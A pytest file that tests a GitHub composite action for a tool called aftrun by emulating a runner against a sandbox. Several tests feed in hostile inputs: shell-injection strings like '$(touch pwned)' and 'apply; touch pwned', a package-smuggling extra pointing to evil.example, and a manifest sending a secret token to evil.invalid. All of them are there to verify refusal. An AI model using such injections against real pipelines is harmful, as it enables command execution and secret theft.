"""The GitHub action: its own scripts, run by bash as a runner would, against a sandbox."""

from __future__ import annotations

import json
import re
import tomllib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

import aftrun
from aftrun.sandbox.server import Sandbox
from tests.conftest import ROOT
from tests.packaging.tools import clean, need_index, npm, run, tool

ACTION = ROOT / "action.yml"
DEFINITION: dict[str, Any] = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
STEPS: dict[str, dict[str, Any]] = {each["id"]: each for each in DEFINITION["runs"]["steps"] if "id" in each}
EXPRESSION = re.compile(r"\$\{\{\s*(inputs|steps)\.([\w.-]+)\s*\}\}")


def parse_outputs(text: str) -> dict[str, str]:
    """What a runner reads from the file that GITHUB_OUTPUT names."""
    found: dict[str, str] = {}
    lines = iter(text.splitlines())
    for line in lines:
        name, plain, value = line.partition("=")
        if plain and "<<" not in name:
            found[name] = value
            continue
        name, _, delimiter = line.partition("<<")
        body: list[str] = []
        while (each := next(lines)) != delimiter:
            body.append(each)
        found[name] = "\n".join(body)
    return found


@dataclass
class Runner:
    """As much of GitHub's runner as a composite action with bash steps needs."""

    folder: Path
    inputs: dict[str, str]
    env: dict[str, str] = field(default_factory=dict)
    steps: dict[str, dict[str, str]] = field(default_factory=dict)
    said: dict[str, str] = field(default_factory=dict)
    codes: dict[str, int] = field(default_factory=dict)

    @property
    def summary(self) -> str:
        """The summary of the job."""
        return "".join(path.read_text(encoding="utf-8") for path in sorted(self.folder.glob("*.summary")))

    def value(self, text: object) -> str:
        """A text with its expressions filled in; what nobody has set is empty."""

        def fill(match: re.Match[str]) -> str:
            scope, path = match.groups()
            if scope == "inputs":
                return self.inputs[path]
            step, _, name = path.partition(".outputs.")
            return self.steps.get(step, {}).get(name, "")

        filled = EXPRESSION.sub(fill, str(text))
        assert "${{" not in filled, f"this runner does not know {filled}"
        return filled

    def step(self, name: str) -> int:
        """Runs a step; returns its exit code."""
        step = STEPS[name]
        files = {variable: self.folder / f"{name}.{kind}" for variable, kind in FILES.items()}
        for path in files.values():
            path.touch()
        script = self.folder / f"{name}.sh"
        script.write_text(step["run"], encoding="utf-8")
        env = clean(
            GITHUB_ACTIONS="true",
            GITHUB_ACTION_PATH=str(ROOT),
            GITHUB_WORKSPACE=str(self.folder / "workspace"),
            RUNNER_OS="Linux",
            RUNNER_TEMP=str(self.folder / "temp"),
            NO_PROXY="*",
            **{variable: str(path) for variable, path in files.items()},
            **self.env,
            **{variable: self.value(text) for variable, text in step.get("env", {}).items()},
        )
        # The way in which runners start `shell: bash`.
        command = [tool("bash"), "--noprofile", "--norc", "-eo", "pipefail", script]
        cwd = self.folder / "workspace" / self.value(step.get("working-directory", "."))
        marked = [tool("bash"), "-c", '"$@"; echo "code=$?"', "-", *command]
        text = run(marked, cwd=cwd, env=env)
        self.said[name], _, code = text.rpartition("code=")
        self.codes[name] = int(code)
        self.steps[name] = parse_outputs(files["GITHUB_OUTPUT"].read_text(encoding="utf-8"))
        return self.codes[name]

    def outputs(self) -> dict[str, str]:
        """What the action hands on to the workflow."""
        return {name: self.value(each["value"]) for name, each in DEFINITION["outputs"].items()}


FILES = {"GITHUB_OUTPUT": "output", "GITHUB_STEP_SUMMARY": "summary", "GITHUB_ENV": "env", "GITHUB_PATH": "path"}

Make = Callable[..., Runner]


def new_runner(folder: Path, inputs: Mapping[str, str]) -> Runner:
    """A runner with an empty workspace, and the defaults of the inputs."""
    for name in ("temp", "workspace"):
        (folder / name).mkdir()
    defaults = {name: str(each.get("default", "")) for name, each in DEFINITION["inputs"].items()}
    return Runner(folder, {**defaults, **inputs})


@pytest.fixture
def make(installed: Path, tmp_path: Path) -> Make:
    """Makes a runner on which the action's first step has been run, more or less: aftrun is installed."""

    def made(**inputs: str) -> Runner:
        runner = new_runner(tmp_path, {name.replace("_", "-"): value for name, value in inputs.items()})
        reports = tmp_path / "temp" / "reports"
        reports.mkdir()
        runner.steps["prepare"] = {"bin": str(installed), "reports": str(reports)}
        return runner

    return made


def apply_and_count(runner: Runner) -> int:
    """The steps behind `prepare`; returns the exit code of the one that decides."""
    runner.step("apply")
    assert runner.step("counts") == 0, runner.said["counts"]
    return runner.codes["apply"]


def test_prepare_installs_what_was_asked_for(packages: tuple[Path, Path], tmp_path: Path) -> None:
    """The version is said, and the next steps are told where the program is."""
    need_index()
    runner = new_runner(tmp_path, {"version": str(packages[0])})
    assert runner.step("prepare") == 0, runner.said["prepare"]
    assert f"aftrun {aftrun.__version__}" in runner.said["prepare"]
    assert (Path(runner.steps["prepare"]["bin"]) / "aftrun").exists()
    assert list(Path(runner.steps["prepare"]["reports"]).iterdir()) == []


def test_prepare_installs_its_own_source_with_the_packages_of_the_lock(tmp_path: Path) -> None:
    """Without a version: what the tag of the action holds, in the version that it was tested with."""
    need_index()
    runner = new_runner(tmp_path, {"extras": "sandbox,keyring"})
    assert runner.step("prepare") == 0, runner.said["prepare"]
    python = Path(runner.steps["prepare"]["bin"]) / "python"
    packages = tomllib.loads((ROOT / "uv.lock").read_text("utf-8"))["package"]
    locked = {each["name"]: each.get("version") for each in packages}
    freeze = run([python, "-m", "pip", "freeze"])
    installed = dict(re.findall(r"(?m)^([\w.-]+)==(.+)$", freeze.lower().replace("_", "-")))
    assert {"aiohttp", "keyring", "requests"} <= set(installed)
    assert {name: locked.get(name.replace(".", "-")) for name in installed} == installed
    assert "/site-packages/" in run([python, "-c", "import aftrun; print(aftrun.__file__)"], cwd=tmp_path)


def test_a_run_writes_summary_outputs_and_reports(make: Make, sandbox: Callable[..., Sandbox]) -> None:
    """Two manifests, one job of three fails: everything that a workflow can use says so."""
    behaviours = [{"match": {"scriptName": "bad"}, "outcome": "failed"}]
    server = sandbox({"defaults": {"queue": "0s", "duration": "10ms"}, "behaviours": behaviours})
    runner = make(
        manifest="my manifests/one.yaml\ntwo.yaml\n",
        args=f"--keep-going --server {server.url}\n--fingerprint '{server.fingerprint}'",
        env_file="keys.env",
    )
    workspace = runner.folder / "workspace"
    (workspace / "my manifests").mkdir()
    text = "jobs:\n  - {name: a, scriptName: good, params: {token: '${TOKEN}'}}\n  - {name: b, scriptName: bad}\n"
    (workspace / "my manifests" / "one.yaml").write_text(text, encoding="utf-8")
    (workspace / "two.yaml").write_text("scriptName: good\nname: c\n", encoding="utf-8")
    (workspace / "keys.env").write_text(f"AFT_API_KEY={server.api_key}\nTOKEN=s3cr3t-token\n", encoding="utf-8")
    assert apply_and_count(runner) == 1
    outputs = runner.outputs()
    assert (outputs["outcome"], outputs["exit-code"], outputs["failed"]) == ("failed", "1", "b")
    assert (outputs["total"], outputs["succeeded"]) == ("3", "2")
    counts = json.loads(outputs["counts"])
    assert (counts["failed"], counts["skipped"]) == (1, 0)
    report = json.loads(Path(outputs["report"]).read_text(encoding="utf-8"))
    assert report["run"]["id"] == outputs["run-id"]
    assert {path.name for path in Path(outputs["reports"]).iterdir()} == {"report.json", "report.html", "junit.xml"}
    assert "::error " in runner.said["apply"]
    assert "file=my manifests/one.yaml,line=3" in runner.said["apply"]
    assert outputs["run-id"] in runner.summary
    everything = runner.said["apply"] + runner.summary + json.dumps(runner.steps)
    assert "s3cr3t-token" not in everything
    assert server.api_key not in everything


def test_the_key_may_be_an_input_and_the_summary_left_out(make: Make, sandbox: Callable[..., Sandbox]) -> None:
    """`api-key` wins over the environment; `summary: false` writes none; a folder below can be the place to run."""
    server = sandbox()
    args = f"--server {server.url} --fingerprint {server.fingerprint}"
    runner = make(manifest="job.yaml", args=args, api_key=server.api_key, summary="false", working_directory="below it")
    runner.env["AFT_API_KEY"] = "wrong"
    (runner.folder / "workspace" / "below it").mkdir()
    (runner.folder / "workspace" / "below it" / "job.yaml").write_text("scriptName: x\n", encoding="utf-8")
    assert apply_and_count(runner) == 0, runner.said["apply"]
    assert runner.outputs()["outcome"] == "succeeded"
    assert runner.summary == ""


def test_a_pull_request_of_a_stranger(make: Make, sandbox: Callable[..., Sandbox]) -> None:
    """Checked with the protected branch's policy, without the key at hand; and not run with it by mistake either."""
    server = sandbox()
    evil = "server: {url: 'https://evil.invalid', apiKey: '${HOME_TOKEN}'}\nscriptName: x\n"
    runner = make(manifest="job.yaml", command="validate", policy="../trusted/policy.yaml", api_key=server.api_key)
    runner.env |= {"HOME_TOKEN": "t-0815-token", "AFT_API_KEY": server.api_key}
    workspace, trusted = runner.folder / "workspace", runner.folder / "trusted"
    trusted.mkdir()
    (trusted / "policy.yaml").write_text(f"servers: ['{server.url}']\nenv: [AFT_API_KEY]\n", encoding="utf-8")
    (workspace / "job.yaml").write_text(evil, encoding="utf-8")
    # What the pull request says of a policy, and of what it did before, counts for nothing.
    (workspace / ".aftrun-policy.yaml").write_text("{}\n", encoding="utf-8")
    assert apply_and_count(runner) == 2
    said = runner.said["apply"]
    assert said.count("::error") == 2
    assert "file=job.yaml,line=1" in said
    assert "does not allow it" in said
    (workspace / "job.yaml").write_text(f"scriptName: x\nserver: {{url: '{server.url}'}}\n", encoding="utf-8")
    assert apply_and_count(runner) == 0, runner.said["apply"]
    (workspace / "job.yaml").write_text(evil, encoding="utf-8")
    runner.inputs["command"] = "apply"
    assert apply_and_count(runner) == 2
    runner.inputs["command"] = "apply; touch pwned"
    assert apply_and_count(runner) == 2
    assert not list(runner.folder.rglob("pwned"))
    assert not server.jobs()
    assert not any(secret in text for text in runner.said.values() for secret in ("t-0815-token", server.api_key))


def test_no_input_is_ever_a_command(make: Make) -> None:
    """What a shell would run, expand or split arrives as it stands, and becomes an error message at most."""
    evil = "$(touch pwned) `touch pwned`; touch pwned && \"$HOME\" '*'"
    runner = make(
        manifest=evil + "\n--insecure\n", args="--select 'a; touch pwned' --var \"x=$(touch pwned)\"", env_file=""
    )
    assert apply_and_count(runner) == 2
    assert not list(runner.folder.rglob("pwned"))
    assert "$(touch pwned)" in runner.said["apply"]
    assert runner.outputs()["outcome"] == runner.outputs()["report"] == ""


@pytest.mark.parametrize(
    "inputs", [{"version": "1.0; touch pwned"}, {"version": "--index-url=x"}, {"extras": "a] @ https://evil.example"}]
)
def test_what_is_no_version_is_refused_before_pip_sees_it(tmp_path: Path, inputs: dict[str, str]) -> None:
    """A version or an extra cannot smuggle in an option or another package."""
    runner = new_runner(tmp_path, {})
    runner.inputs.update(inputs)
    assert runner.step("prepare") == 2
    assert "::error" in runner.said["prepare"]
    assert not list(tmp_path.rglob("pwned"))


def test_no_script_holds_an_expression() -> None:
    """Inputs come in as variables: an expression in a script would be text of the script."""
    for each in DEFINITION["runs"]["steps"]:
        assert "${{" not in each.get("run", "")


def test_the_action_passes_its_linters() -> None:
    """GitHub's schema, and action-validator, which also looks at the fields' values."""
    run([tool("check-jsonschema"), "--builtin-schema", "vendor.github-actions", ACTION])
    run([npm("action-validator"), ACTION])
